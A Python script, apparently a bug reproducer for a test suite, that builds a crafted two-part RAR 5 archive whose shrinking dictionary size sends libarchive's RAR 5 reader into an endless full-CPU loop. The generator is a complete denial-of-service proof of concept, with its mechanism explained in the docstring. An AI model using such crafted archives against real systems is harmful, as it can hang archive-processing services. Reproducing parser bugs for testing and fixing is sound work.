#!/usr/bin/env python3
"""Writes archives/rar5-dictionary-shrinks-mid-file.rar: a RAR 5 archive on
which libarchive's RAR 5 reader (3.6.2 as Debian 12 ships it) never returns
from archive_read_data, at full CPU and without reading or writing anything.

One file, stored as two parts one after the other (a first part marked
"continued", a second marked "continuation"). The first part declares a
256 KiB dictionary, the second 128 KiB: the reader takes the second value
without starting over. Compressed data:
  block 1 (first part): Huffman tables and one E8 filter over bytes
      0 .. 96 KiB, which the reader accepts since 96 KiB is at most half of
      256 KiB;
  block 2 (across both parts): one literal and long matches, 64 KiB and a
      bit of output.
Block 2 is decoded after the switch to 128 KiB. The reader stops a block
once it holds more than half a dictionary (64 KiB) of output it has not
handed out, but it can hand out nothing before the filter's 96 KiB are
there: it asks the block for more, the block yields nothing, and so on
for ever.

    python3 make_rar5_shrinking_dictionary.py OUTPUT
"""
import struct
import sys
import zlib


def vint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | 0x80 if n else b)
        if not n:
            return bytes(out)


def header(kind, flags, body):
    inner = vint(kind) + vint(flags) + body
    sized = vint(len(inner)) + inner
    return struct.pack('<I', zlib.crc32(sized) & 0xFFFFFFFF) + sized


SIGNATURE = b'Rar!\x1a\x07\x01\x00'
HFL_DATA, HFL_SPLIT_BEFORE, HFL_SPLIT_AFTER = 0x02, 0x08, 0x10


def file_header(flags, data_size, unpacked, dictionary_shift, name=b'spin.bin'):
    # Method 3 ("normal"), format version 0, dictionary 128 KiB << shift.
    compression = (3 << 7) | (dictionary_shift << 10)
    body = (vint(data_size) + vint(0) + vint(unpacked) + vint(0x20)
            + vint(compression) + vint(0) + vint(len(name)) + name)
    return header(2, HFL_DATA | flags, body)


class Bits:
    """Most significant bit first, as the reader takes them."""

    def __init__(self):
        self.bits = []

    def put(self, value, count):
        self.bits += [(value >> i) & 1 for i in range(count - 1, -1, -1)]

    def block(self, with_tables):
        bits = self.bits + [0] * (-len(self.bits) % 8)
        data = bytes(int(''.join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8))
        used = len(self.bits) % 8 or 8
        flags = (0x80 if with_tables else 0) | (used - 1)
        if len(data) >= 256:
            raise ValueError('block too long for a one-byte size')
        check = 0x5A ^ flags ^ len(data)
        return bytes([flags, check, len(data)]) + data


# Code lengths of the literal/length (306), distance (64), low distance (16)
# and repeat (44) tables: all symbols of a table share one length, so a
# symbol's code is its number.
LENGTHS = [9] * 306 + [6] * 64 + [4] * 16 + [6] * 44


def put_tables(bits):
    # The 20 code lengths of the table-length alphabet, as nibbles: all 5.
    for _ in range(20):
        bits.put(5, 4)
    i = 0
    while i < len(LENGTHS):
        value = LENGTHS[i]
        bits.put(value, 5)
        i += 1
        run = 0
        while i + run < len(LENGTHS) and LENGTHS[i + run] == value:
            run += 1
        while run >= 3:  # 16: repeat 3..10 times, 17: repeat 11..138 times
            n = min(run, 138 if run >= 11 else 10)
            if n >= 11:
                bits.put(17, 5)
                bits.put(n - 11, 7)
            else:
                bits.put(16, 5)
                bits.put(n - 3, 3)
            i += n
            run -= n


def build():
    first = Bits()
    put_tables(first)
    first.put(256, 9)                    # a filter:
    first.put(0, 2)                      #   start in 1 byte: 0
    first.put(0, 8)
    first.put(2, 2)                      #   length in 3 bytes: 0x018000
    for byte in (0x00, 0x80, 0x01):
        first.put(byte, 8)
    first.put(1, 3)                      #   type E8
    block1 = first.block(True)

    second = Bits()
    second.put(ord('A'), 9)
    for _ in range(17):                  # 17 matches of 4097 bytes at distance 1
        second.put(262 + 43, 9)
        second.put(511, 9)
        second.put(0, 6)
    block2 = second.block(False)

    part1 = block1 + block2[:8]
    part2 = block2[8:] + b'\0'           # one byte more than the block
    unpacked = 200000
    return (SIGNATURE + header(1, 0, vint(0))
            + file_header(HFL_SPLIT_AFTER, len(part1), unpacked, 1) + part1
            + file_header(HFL_SPLIT_BEFORE, len(part2), unpacked, 0) + part2
            + header(5, 0, vint(0)))


if __name__ == '__main__':
    with open(sys.argv[1], 'wb') as f:
        f.write(build())
